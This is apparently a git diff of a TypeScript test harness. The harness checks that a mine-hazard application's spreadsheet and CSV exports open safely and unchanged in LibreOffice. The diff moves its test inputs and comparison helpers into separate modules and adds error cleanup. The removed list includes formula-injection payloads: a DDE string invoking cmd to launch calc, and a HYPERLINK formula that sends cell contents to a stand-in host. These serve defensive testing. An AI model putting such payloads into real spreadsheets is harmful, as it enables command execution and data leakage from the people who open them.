@@ -13,121 +13,17 @@ import { databaseName } from '#server/platform/database/cluster.ts'
 import { startEmbedded } from '#server/platform/database/embedded.ts'
 import { migrate } from '#server/platform/database/migrate.ts'
 import { queues } from '#server/platform/jobs.ts'
+import { hostile } from '#tests/judges/hostileTexts.ts'
 import { csvFilters, libreOffice, type OfficeCell, type OfficeSheet } from '#tests/judges/libreOffice.ts'
+import { type Expected, emptyCell, formulasIn, meets, type Table, wrongIn } from '#tests/judges/officeTable.ts'
 import { asOwner, untilLeft } from '#tests/support/database.ts'
 import { mineValue, newHazard, startServer, type TestServer } from '#tests/support/district.ts'
 import { bodiesOf } from '#tests/support/hazards.ts'
 import { mineLine, mineTitles } from '#tests/support/workbooks.ts'
 
-/** Texts that a spreadsheet would rather compute, count, date, fold or lose. Each must come out as it went in. */
-const hostile: readonly string[] = [
-  '=1+1',
-  '=HYPERLINK("http://hostile.invalid/?q="&A1,"点这里")',
-  `=cmd|'/c calc'!A1`,
-  `+cmd|'/c calc'!A1`,
-  '-2+3+cmd',
-  '@SUM(1,1)',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(A1)',
-  `'=1+1`,
-  '{=1+1}',
-  '零宽\u200b=1+1',
-  '%=1+1',
-  '00123',
-  '140404199001010018',
-  '6217000010001234567',
-  '1E5',
-  '1.50',
-  '-5',
-  '1,000',
-  '2023-09-15',
-  '3/4',
-  '2023年9月1日',
-  '12:30',
-  '50%',
-  'TRUE',
-  '#N/A',
-  '北帮 +1114 平台，缺“护栏”',
-  '𠮷家沟采场 㐂字号 㙟 𪚥 龘',
-  '👷🏽‍♂️ 班前会 🈶 ⚠️',
-  '甲\t乙',
-  '两个  空格',
-  '<b>&amp;"逗,号"</b>',
-  '_x0041_ 与 _x000D_',
-  '全角，半角,；;|',
-]
-
 /** LibreOffice keeps no tab of a .csv's cell that has several lines: tabs stand in the cells of one line. */
 const manyLines = (one: string): string => `${one.replaceAll('\t', ' ')}\n=1+1\n第三行 𠮷`
 const longest = `=${'长'.repeat(1_990)}尾`
-
-/** What must stand in a cell: this text as text, this day, this amount. */
-type Expected =
-  | { readonly text: string }
-  | { readonly day: string }
-  | { readonly number: number }
-  | { readonly any: true }
-
-const emptyCell: OfficeCell = { type: undefined, text: '', value: undefined, formula: undefined, links: [], note: '' }
-
-const meets = (cell: OfficeCell, expected: Expected): string | undefined => {
-  if ('any' in expected) return undefined
-  if ('text' in expected) {
-    if (expected.text === '') return cell.text === '' ? undefined : `“${cell.text}”，应为空`
-    if (cell.type !== 'string') return `“${expected.text}”成了 ${cell.type ?? '空'} ${cell.value ?? ''}`
-    return cell.text === expected.text ? undefined : `“${cell.text.slice(0, 60)}”，应为“${expected.text.slice(0, 60)}”`
-  }
-  if ('day' in expected)
-    return cell.type === 'date' && cell.value === expected.day
-      ? undefined
-      : `${cell.type} ${cell.value}，应为日期 ${expected.day}`
-  return cell.type === 'float' && Number(cell.value) === expected.number
-    ? undefined
-    : `${cell.type} ${cell.value}，应为数 ${expected.number}`
-}
-
-const placeName = (row: number, column: number): string => `第 ${row + 1} 行第 ${column + 1} 列`
-
-const formulasIn = (sheets: readonly OfficeSheet[]): readonly string[] =>
-  sheets.flatMap(({ name, rows }) =>
-    rows.flatMap((row, r) =>
-      row.flatMap(({ formula, links }, c) => [
-        ...(formula === undefined ? [] : [`${name} ${placeName(r, c)}是公式 ${formula}`]),
-        // A fault in the list leads to its cell in the same file; nothing may lead out of it.
-        ...links
-          .filter((link) => !link.startsWith('../marked.xlsx#'))
-          .map((link) => `${name} ${placeName(r, c)}通向 ${link}`),
-      ]),
-    ),
-  )
-
-/** Rows by the text of their first cell, as many as there are, no more. */
-type Table = { readonly header: number; readonly rows: ReadonlyMap<string, readonly Expected[]> }
-
-/** Everything that is wrong with an opened table: formulas, rows, cells. Nothing, where it is as it should be. */
-const wrongIn = (sheets: readonly OfficeSheet[], { header, rows }: Table): readonly string[] => {
-  const all = sheets[0]?.rows ?? []
-  const body = all.slice(header, -1)
-  const said = all.at(-1)?.[0]?.text ?? ''
-  const counts = [
-    ...(said === `共 ${rows.size} 行` ? [] : [`最后一行写“${said}”，应为共 ${rows.size} 行`]),
-    ...(body.length === rows.size ? [] : [`有 ${body.length} 行，应有 ${rows.size} 行`]),
-  ]
-  const met = new Set<string>()
-  const cells = body.flatMap((row, at) => {
-    const key = row[0]?.text ?? ''
-    const expected = rows.get(key)
-    if (!expected || met.has(key)) return [`第 ${at + header + 1} 行“${key}”不该有`]
-    met.add(key)
-    return expected.flatMap((one, column) => {
-      const wrong = meets(row[column] ?? emptyCell, one)
-      return wrong === undefined ? [] : [`${placeName(at + header, column)}：${wrong}`]
-    })
-  })
-  return [...formulasIn(sheets), ...counts, ...cells]
-}
 
 const columns = ['number', 'mineName', 'place', 'description', 'foundOn', 'fundsPlanned', 'nationalNumber'] as const
 type Put = {
@@ -351,16 +247,20 @@ const statisticsTable = (names: readonly string[]): Table => ({
 })
 
 /** A house of its own: PostgreSQL, migrated, served over HTTP. */
-const openHouse = async (folder: string): Promise<{ server: TestServer; close: () => Promise<void> }> => {
+const openHouse = async (folder: string): Promise<TestServer> => {
   const log = pino({ level: 'silent' })
   const database = await startEmbedded({ dataDir: join(folder, 'house'), log, settings: { fsync: 'off' } })
-  await migrate(database.adminUrl, { queues })
   const drop = async (): Promise<void> => {
     await asOwner(database, (client) => untilLeft(client, databaseName))
     await database.stop()
   }
-  const server = await startServer({ database: { ...database, drop } })
-  return { server, close: () => server.close() }
+  try {
+    await migrate(database.adminUrl, { queues })
+    return await startServer({ database: { ...database, drop } })
+  } catch (error) {
+    await database.stop()
+    throw error
+  }
 }
 
 /** Debian's LibreOffice opens what the program gives away, filled with what spreadsheets like to misread. */
@@ -378,7 +278,10 @@ export const judgeExports = async (say: (line: string) => void): Promise<{ passe
   }
   const folder = await mkdtemp(join(tmpdir(), 'bihuan-office-'))
   const at = (name: string): string => join(folder, name)
-  const { server, close } = await openHouse(folder)
+  const server = await openHouse(folder).catch(async (error: unknown) => {
+    await rm(folder, { recursive: true, force: true })
+    throw error
+  })
   try {
     const puts = await fill(server)
     const { rows } = await server.owner.query<{ hazards: number }>('select count(*)::int as hazards from read.hazard')
@@ -427,7 +330,7 @@ export const judgeExports = async (say: (line: string) => void): Promise<{ passe
     refused('a .csv whose formulas are not guarded', wrongIn(unguarded ?? [], tableOf(1, puts, inGuessedCsv)), '是公式')
     return tally
   } finally {
-    await close()
+    await server.close()
     await rm(folder, { recursive: true, force: true })
   }
 }
